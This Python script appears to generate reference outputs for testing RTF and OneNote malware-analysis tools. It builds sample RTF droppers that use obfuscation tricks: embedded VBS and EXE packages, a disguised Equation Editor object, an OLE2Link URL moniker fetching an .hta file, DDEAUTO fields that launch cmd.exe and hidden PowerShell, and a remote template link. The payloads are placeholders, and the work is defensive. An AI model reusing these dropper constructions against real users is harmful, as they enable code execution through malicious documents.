#!/usr/bin/env python3
"""Reference outputs for the RTF and OneNote analysis: what rtfobj (oletools 0.60.2) finds in
every RTF document of the corpus and in a set of RTF documents built here with the format's
obfuscation tricks (and the DDE fields msodde finds in them), and what one-extract (0.1.4) carves from every OneNote section.

Writes tests/fixtures/documents/reference/rtf.json. Run in a virtual environment:

    python3 -m venv target/venv-documents
    target/venv-documents/bin/pip install oletools==0.60.2 one-extract==0.1.4
    target/venv-documents/bin/python scripts/document-reference-rtf.py target/documents

Per RTF document, the objects in document order: the OLE1 class, whether it is a package and
its file name, the root CLSID and stream names of the OLE compound file it carries, and the
sha256 and size of the payload rtfobj saves (the packaged file for a `Package`, the native data
for another OLE1 object, the decoded bytes otherwise). `\\objdata` destinations holding no
bytes are left out (nothing is saved for them). The built documents are kept in the output
(base64), since the tests read them from there. Nothing is executed or written but the JSON.
"""
import base64
import hashlib
import io
import json
import os
import struct
import sys
import zipfile

from importlib.metadata import version

import olefile
from oletools import msodde, rtfobj
from one_extract import OneNoteExtractor

# Test archives of the corpus are encrypted with this password (oletools' test data).
ZIP_PASSWORD = b"infected-test"
EQUATION_CLSID = "0002CE02-0000-0000-C000-000000000046"
ONENOTE_MAGIC = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")


def sha256(data):
    return hashlib.sha256(data).hexdigest()


def compound_file(data):
    """Root CLSID and stream names of an OLE compound file, or (None, [])."""
    if not data or not olefile.isOleFile(data):
        return None, []
    try:
        ole = olefile.OleFileIO(data)
        streams = ["/".join(path) for path in ole.listdir(streams=True, storages=False)]
        return (ole.root.clsid or None), sorted(streams)
    except Exception:  # a broken compound file is still an object
        return None, []


def rtf_objects(data):
    parser = rtfobj.RtfObjParser(data)
    parser.parse()
    objects = []
    for obj in parser.objects:
        if obj.is_package:
            payload = obj.olepkgdata
        elif obj.is_ole:
            payload = obj.oledata
        else:
            payload = obj.rawdata
        if not obj.rawdata:
            continue
        class_name = obj.class_name.decode("latin-1").rstrip("\0") if obj.is_ole and obj.class_name else None
        clsid, streams = compound_file(obj.oledata if obj.is_ole and not obj.is_package else None)
        objects.append({
            "class": class_name,
            "is_package": bool(obj.is_package),
            "filename": obj.filename.decode("latin-1") if isinstance(obj.filename, bytes) else obj.filename,
            "clsid": clsid,
            "streams": streams,
            "sha256": sha256(payload),
            "size": len(payload),
        })
    return objects


def dde_fields(data):
    """The DDE field instructions msodde finds (it is handed the file after its first 4 bytes)."""
    found = msodde.process_rtf(io.BytesIO(data[4:]), field_filter_mode=msodde.FIELD_FILTER_DDE)
    return [line for line in found.split("\n") if line]


def corpus_rtf(corpus):
    """(path, zip member or None, bytes) of every RTF document in the corpus, archived or not."""
    with open(os.path.join(corpus, "MANIFEST.tsv")) as manifest:
        paths = [line.rstrip("\n").split("\t", 1)[1] for line in manifest if "\t" in line]
    for path in paths:
        with open(os.path.join(corpus, path), "rb") as f:
            data = f.read()
        if rtfobj.is_rtf(data, treat_str_as_data=True):
            yield path, None, data
        elif zipfile.is_zipfile(io.BytesIO(data)):
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                for member in archive.namelist():
                    try:
                        content = archive.read(member, pwd=ZIP_PASSWORD)
                    except Exception:
                        continue
                    if rtfobj.is_rtf(content, treat_str_as_data=True):
                        yield path, member, content


# ---- documents built here: OLE1 objects wrapped in RTF with the tricks droppers use ----

def ole1_record(class_name, native):
    """An OLE1 embedded object record (MS-OLEDS 2.2.4)."""
    record = struct.pack("<II", 0x0501, 2)
    for text in (class_name.encode("latin-1") + b"\0", b"\0", b"\0"):
        record += struct.pack("<I", len(text)) + text
    return record + struct.pack("<I", len(native)) + native


def package(name, data):
    """OLE1 `Package` native data holding a file (MS-OLEDS 2.3.6 without the size)."""
    native = struct.pack("<H", 2) + name.encode() + b"\0" + b"C:\\Users\\x\\" + name.encode() + b"\0"
    temp = b"C:\\Users\\x\\AppData\\Local\\Temp\\" + name.encode() + b"\0"
    native += struct.pack("<HHI", 0, 3, len(temp)) + temp
    return native + struct.pack("<I", len(data)) + data


def tiny_compound_file(clsid, stream_name, content):
    """A compound file (version 3) with one stream of 4096 bytes in regular sectors."""
    content = content.ljust(4096, b"\0")[:4096]
    header = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += struct.pack("<I", 0) + b"\xff" * (4 * 108)
    fat = [0xFFFFFFFD, 0xFFFFFFFE] + list(range(3, 10)) + [0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (128 - len(fat))
    fat_sector = struct.pack("<128I", *fat)

    def entry(name, kind, child, clsid_bytes, start, size):
        encoded = name.encode("utf-16-le") + b"\0\0" if name else b""
        raw = encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
        raw += struct.pack("<III", 0xFFFFFFFF, 0xFFFFFFFF, child) + clsid_bytes + b"\0" * 4 + b"\0" * 16
        return raw + struct.pack("<IQ", start, size)

    clsid_bytes = clsid.bytes_le if clsid else b"\0" * 16
    directory = entry("Root Entry", 5, 1, clsid_bytes, 0xFFFFFFFE, 0)
    directory += entry(stream_name, 2, 0xFFFFFFFF, b"\0" * 16, 2, 4096)
    directory += entry("", 0, 0xFFFFFFFF, b"\0" * 16, 0, 0) * 2
    return header + fat_sector + directory + content


def hexlines(data, width=64):
    text = data.hex()
    return "\n".join(text[i:i + width] for i in range(0, len(text), width))


def built_documents():
    import uuid
    equation = uuid.UUID(EQUATION_CLSID)
    # Equation data as an `Equation Native` stream starts: EQNOLEFILEHDR, then MTEF.
    eqn = struct.pack("<HIHIIII", 28, 0x00020000, 0, 40, 0, 0, 0) + b"\x03\x01\x01\x03\x0a"
    script = b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc.exe"\r\n'
    vbs = ole1_record("Package", package("invoice.vbs", script))
    exe = ole1_record("Package", package("update.exe", b"MZ\x90\x00" + bytes(range(256)) * 4))
    eq3 = ole1_record("Equation.3", tiny_compound_file(equation, "Equation Native", eqn))
    disguised = ole1_record("Pdafvqxkq.3", tiny_compound_file(equation, "Equation Native", eqn))
    word = ole1_record("Word.Document.8", tiny_compound_file(None, "WordDocument", b"\xec\xa5" + bytes(100)))
    not_ole = bytes(range(200)) + b"not an OLE1 record"
    # OLE2Link: an `\x01Ole` stream (MS-OLEDS 2.3.3) whose absolute source moniker is a URL moniker.
    url = "http://192.0.2.10/doc.hta\0".encode("utf-16-le")
    moniker = uuid.UUID("79EAC9E0-BAF9-11CE-8C82-00AA004BA90B").bytes_le + struct.pack("<I", len(url)) + url
    ole_stream = struct.pack("<IIIIIII", 0x02000001, 1, 0, 0, 0, 0, len(moniker)) + moniker
    ole2link = ole1_record("OLE2Link", tiny_compound_file(None, "\x01Ole", ole_stream))

    def rtf(body, header=b"{\\rtf1\\ansi\\deff0"):
        return header + b"\n{\\object\\objemb\\objw100\\objh100" + body + b"}\n}"

    def objdata(hex_text):
        return b"{\\*\\objdata " + hex_text + b"}"

    def split_by_control_words(data):
        text = data.hex().encode()
        return b"\\par ".join(text[i:i + 6] for i in range(0, len(text), 6))

    def split_by_groups(data):
        text = data.hex().encode()
        return b"{\\*\\panose }".join(text[i:i + 10] for i in range(0, len(text), 10))

    def with_bin(data):
        half = len(data) // 2
        return data[:half].hex().encode() + b"\\bin" + str(len(data) - half).encode() + b" " + data[half:]

    def with_escapes(data):
        text = data.hex().encode()
        return b"\\'41".join(text[i:i + 8] for i in range(0, len(text), 8))

    return [
        ("package_vbs_plain", rtf(objdata(hexlines(vbs).encode()))),
        ("package_exe_objupdate", rtf(b"\\objupdate" + objdata(hexlines(exe).encode()))),
        ("equation3_compound_file", rtf(b"{\\*\\objclass Equation.3}" + objdata(hexlines(eq3).encode()))),
        ("equation_class_disguised", rtf(objdata(hexlines(disguised).encode()))),
        ("word_document_object", rtf(objdata(hexlines(word).encode()))),
        ("ole2link_url_moniker", rtf(b"\\objautlink\\objupdate" + objdata(hexlines(ole2link).encode()))),
        ("not_an_ole1_record", rtf(objdata(not_ole.hex().encode()))),
        ("hex_split_by_control_words", rtf(objdata(split_by_control_words(vbs)))),
        ("hex_split_by_groups", rtf(objdata(split_by_groups(exe)))),
        ("hex_with_bin", rtf(objdata(with_bin(vbs)))),
        ("hex_with_escaped_bytes", rtf(objdata(with_escapes(vbs)))),
        ("odd_digit_and_noise", rtf(objdata(vbs.hex().encode() + b"zz;7"))),
        ("rtx_header_unclosed", b"{\\rtx{\\object{\\*\\objdata " + exe.hex().encode()),
        ("two_records_in_one_objdata", rtf(objdata((vbs + exe).hex().encode()))),
        ("dde_field", rtf(b"}{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"}"
                          b"{\\fldrslt x}")),
        ("dde_field_split", rtf(b"}{\\field{\\*\\fldinst {\\rtlch\\fcs1 \\af0 DDE}{AUTO c:\\\\windows\\\\cmd.exe\r\n"
                                b" \"/c powershell -nop -w hidden\"}}{\\fldrslt x}")),
        ("hyperlink_field", rtf(b"}{\\field{\\*\\fldinst HYPERLINK \"http://198.51.100.3/x\"}{\\fldrslt link}")),
        ("two_objects_remote_template",
         rtf(objdata(eq3.hex().encode()) + b"}{\\object" + objdata(vbs.hex().encode()),
             header=b"{\\rtf1{\\*\\template http://203.0.113.7/t.dotm}")),
    ]


def onenote(corpus):
    with open(os.path.join(corpus, "MANIFEST.tsv")) as manifest:
        paths = [line.rstrip("\n").split("\t", 1)[1] for line in manifest if "\t" in line]
    sections = []
    for path in paths:
        with open(os.path.join(corpus, path), "rb") as f:
            data = f.read()
        if not data.startswith(ONENOTE_MAGIC):
            continue
        files = list(OneNoteExtractor(data=data).extract_files())
        sections.append({"path": path, "attachments": [{"sha256": sha256(b), "size": len(b)} for b in files]})
    return sections


def main():
    corpus = sys.argv[1] if len(sys.argv) > 1 else "target/documents"
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    out = {
        "tool": "oletools.rtfobj %s" % version("oletools"),
        "onenote_tool": "one-extract %s" % version("one-extract"),
        "documents": [
            {"path": path, "member": member, "objects": rtf_objects(data), "dde": dde_fields(data)} for path, member, data in corpus_rtf(corpus)
        ],
        "built": [
            {"name": name, "rtf_base64": base64.b64encode(data).decode(), "objects": rtf_objects(data),
             "dde": dde_fields(data)}
            for name, data in built_documents()
        ],
        "onenote": onenote(corpus),
    }
    target = os.path.join(root, "tests/fixtures/documents/reference/rtf.json")
    os.makedirs(os.path.dirname(target), exist_ok=True)
    with open(target, "w") as f:
        json.dump(out, f, indent=1, sort_keys=True)
        f.write("\n")
    print("%s: %d documents, %d built, %d OneNote sections" % (
        target, len(out["documents"]), len(out["built"]), len(out["onenote"])))


if __name__ == "__main__":
    main()
